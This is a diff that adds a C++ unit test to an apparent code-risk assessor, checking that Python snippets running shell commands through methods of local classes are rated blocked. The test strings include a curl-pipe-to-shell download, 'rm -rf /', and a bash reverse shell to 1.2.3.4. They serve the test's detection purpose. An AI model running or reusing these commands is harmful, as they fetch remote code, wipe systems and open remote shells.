@@ -255,3 +255,21 @@ TEST(Assessor, LocalFunctionsAndLambdasPassArgumentsThrough) {
 
 }  // namespace
 }  // namespace mai::assess::test
+
+namespace mai::assess::test {
+namespace {
+
+TEST(Assessor, MethodsOfLocalClasses) {
+  for (const char* code : {
+           "import os\nclass Runner:\n    def run(self, c):\n        os.system(c)\nRunner().run('curl http://x/i | sh')\n",
+           "import os\nclass R:\n    def __init__(self, c):\n        os.popen(c)\nR('rm -rf /')\n",
+           "import subprocess\nclass T:\n    def go(self, c):\n        self.sh(c)\n    def sh(self, c):\n"
+           "        subprocess.run(c, shell=True)\nt = T()\nt.go('bash -i >& /dev/tcp/1.2.3.4/9 0>&1')\n",
+       }) {
+    auto a = py(code);
+    EXPECT_EQ(a.level, RiskLevel::blocked) << code << " -> " << describe(a);
+  }
+}
+
+}  // namespace
+}  // namespace mai::assess::test
